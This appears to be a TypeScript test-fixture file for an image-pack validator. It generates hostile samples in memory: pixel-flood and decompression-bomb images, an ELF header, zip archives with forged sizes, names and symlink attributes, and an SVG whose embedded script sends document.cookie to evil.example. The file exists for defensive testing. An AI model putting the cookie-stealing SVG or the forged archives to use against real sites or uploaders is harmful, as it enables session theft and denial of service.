/**
 * Test fixtures for the pack validator, all generated in memory: real images made with sharp,
 * byte-exact padding, hand-crafted hostile images, and a zip writer that can lie in every field.
 */
import zlib from 'node:zlib';
import sharp from 'sharp';

// ---------------------------------------------------------------------------------------------
// Images
// ---------------------------------------------------------------------------------------------

const colour = (i: number) => ({ r: (i * 67) % 256, g: (i * 131) % 256, b: (i * 199) % 256 });

/** A single-colour PNG; palette-based, so even 4096×4096 stays a few KB. */
export function png(width = 200, height = 200, seed = 0): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour(seed) } })
    .png({ palette: true })
    .toBuffer();
}

export function jpeg(width = 200, height = 200, seed = 0): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour(seed) } }).jpeg().toBuffer();
}

/** A photo-like PNG (noise), so that cutting it anywhere cuts pixel data. */
export function noisyPng(width: number, height: number): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
  return sharp({ create: { width, height, channels: 3, background: '#000', noise } }).png().toBuffer();
}

export function gif(width = 200, height = 200, seed = 0): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour(seed) } }).gif().toBuffer();
}

/** An animated GIF: sharp joins single frames into one multi-page image. */
export async function animatedGif(frames: number, width = 200, height = 200): Promise<Buffer> {
  const pages = await Promise.all(Array.from({ length: frames }, (_, i) => png(width, height, i)));
  return sharp(pages, { join: { animated: true } }).gif({ delay: 100, loop: 0 }).toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** Pads a PNG to exactly `size` bytes with a tEXt chunk before IEND (decoders ignore it). */
export function padPngTo(image: Buffer, size: number): Buffer {
  const IEND_LEN = 12;
  const keyword = Buffer.from('Comment\0', 'latin1');
  const textLength = size - image.length - 12 - keyword.length;
  if (textLength < 0) throw new Error(`PNG is already ${image.length} bytes`);
  const text = Buffer.alloc(textLength, 'emoji padding ');
  const chunk = pngChunk('tEXt', Buffer.concat([keyword, text]));
  const padded = Buffer.concat([image.subarray(0, -IEND_LEN), chunk, image.subarray(-IEND_LEN)]);
  if (padded.length !== size) throw new Error('padding arithmetic');
  return padded;
}

/** Pads a JPEG to exactly `size` bytes with a comment (COM) segment right after SOI. */
export function padJpegTo(image: Buffer, size: number): Buffer {
  const segmentLength = size - image.length - 2; // the length field counts itself, not the marker
  if (segmentLength < 2 || segmentLength > 0xffff) throw new Error(`cannot pad ${image.length} to ${size}`);
  const segment = Buffer.alloc(2 + segmentLength, 'j');
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(segmentLength, 2);
  return Buffer.concat([image.subarray(0, 2), segment, image.subarray(2)]);
}

/** Pads a GIF to exactly `size` bytes with a comment extension before the trailer. */
export function padGifTo(image: Buffer, size: number): Buffer {
  // Comment extension: 0x21 0xFE, sub-blocks (length byte + 1..255 bytes), 0x00 terminator.
  let body = size - image.length - 3;
  if (body < 0) throw new Error(`GIF is already ${image.length} bytes`);
  const blocks: Buffer[] = [];
  while (body > 0) {
    // A sub-block takes 1 + n bytes; never leave exactly 1 byte, which cannot form a block.
    const take = body === 257 ? 255 : Math.min(256, body);
    blocks.push(Buffer.concat([Buffer.from([take - 1]), Buffer.alloc(take - 1, 'c')]));
    body -= take;
  }
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe]), ...blocks, Buffer.from([0x00])]);
  const padded = Buffer.concat([image.subarray(0, -1), comment, image.subarray(-1)]);
  if (padded.length !== size) throw new Error('padding arithmetic');
  return padded;
}

/** Deflates `count` copies of `block` without ever holding the uncompressed data in memory. */
async function deflateRepeated(block: Buffer, count: number, raw = false): Promise<Buffer> {
  const deflate = raw ? zlib.createDeflateRaw({ level: 9 }) : zlib.createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  for (let i = 0; i < count; i++) {
    if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(out);
}

/**
 * A valid single-colour PNG in 1-bit grey, built without sharp or the uncompressed pixels in
 * memory: huge dimensions in a tiny file, and quick to make.
 */
export async function flatPng(width: number, height: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte + 1 bit per pixel
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', await deflateRepeated(row, height)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

let floodPng: Promise<Buffer> | undefined;

/** Pixel flood: a 20000×20000 PNG of about 48 KB (under the 50 KB limit) that decodes to 400 megapixels. */
export function pixelFloodPng(): Promise<Buffer> {
  floodPng ??= flatPng(20000, 20000);
  return floodPng;
}

/** A tiny JPEG whose frame header (SOF) claims 60000×60000. */
export async function pixelFloodJpeg(): Promise<Buffer> {
  const image = Buffer.from(await jpeg(8, 8));
  let pos = 2;
  while (!(image[pos] === 0xff && (image[pos + 1] === 0xc0 || image[pos + 1] === 0xc2))) {
    pos += 2 + image.readUInt16BE(pos + 2);
  }
  image.writeUInt16BE(60000, pos + 5);
  image.writeUInt16BE(60000, pos + 7);
  return image;
}

/** A 43-byte GIF whose single frame claims `width`×`height`. */
export function tinyGif(width: number, height: number): Buffer {
  const bytes = Buffer.from(
    '474946383961' + '01000100' + '800000' + 'ffffff000000' + '2c' + '00000000' + '01000100' + '00' + '0202440100' + '3b',
    'hex',
  );
  for (const offset of [6, 24]) {
    bytes.writeUInt16LE(width, offset);
    bytes.writeUInt16LE(height, offset + 2);
  }
  return bytes;
}

export const ELF_HEADER = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="200" height="200"/></svg>',
);

// ---------------------------------------------------------------------------------------------
// Zips
// ---------------------------------------------------------------------------------------------

export interface ZipEntrySpec {
  name: string | Buffer;
  data?: Buffer;
  /** 0 stored, 8 deflate (default), anything else is written as is. */
  method?: number;
  /** Compressed bytes to write instead of compressing `data`. */
  compressed?: Buffer;
  /** Overrides of the truthful header values. */
  declaredSize?: number;
  declaredCompressedSize?: number;
  crc32?: number;
  flags?: number;
  externalAttributes?: number;
  /** A different name in the local header than in the central directory. */
  localName?: string;
}

const UTF8_FLAG = 0x0800;
const MADE_BY_UNIX = (3 << 8) | 30;

/** Writes a zip exactly as told, lies included. Central and local headers agree unless asked. */
export function buildZip(entries: ZipEntrySpec[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = entry.data ?? Buffer.alloc(0);
    const method = entry.method ?? 8;
    const compressed = entry.compressed ?? (method === 8 ? zlib.deflateRawSync(data) : data);
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : entry.name;
    const flags = entry.flags ?? (typeof entry.name === 'string' ? UTF8_FLAG : 0);
    const crc = entry.crc32 ?? zlib.crc32(data);
    const size = entry.declaredSize ?? data.length;
    const compressedSize = entry.declaredCompressedSize ?? compressed.length;
    const localName = entry.localName === undefined ? name : Buffer.from(entry.localName, 'utf8');

    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressedSize, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(localName.length, 26);
    locals.push(local, localName, compressed);

    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(MADE_BY_UNIX, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressedSize, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(entry.externalAttributes ?? (0o100644 << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);

    offset += local.length + localName.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  return Buffer.concat([...locals, directory, endOfCentralDirectory(entries.length, directory.length, offset)]);
}

export function endOfCentralDirectory(count: number, directorySize: number, directoryOffset: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directorySize, 12);
  end.writeUInt32LE(directoryOffset, 16);
  return end;
}

export const SYMLINK_ATTRIBUTES = (0o120777 << 16) >>> 0;

/** `count` distinct 200×200 PNGs named emoji-1.png, emoji-2.png, ... */
export async function imageEntries(count: number): Promise<ZipEntrySpec[]> {
  return Promise.all(
    Array.from({ length: count }, async (_, i) => ({ name: `emoji-${i + 1}.png`, data: await png(200, 200, i) })),
  );
}

/** A deflate stream of `bytes` zero bytes, made without allocating them. */
export function deflatedZeros(bytes: number): Promise<Buffer> {
  const block = 1024 * 1024;
  if (bytes % block !== 0) throw new Error('whole MiB only');
  return deflateRepeated(Buffer.alloc(block), bytes / block, true);
}

/** Deterministic pseudo-random bytes (so failures reproduce). */
export function pseudoRandomBytes(length: number, seed = 1): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}
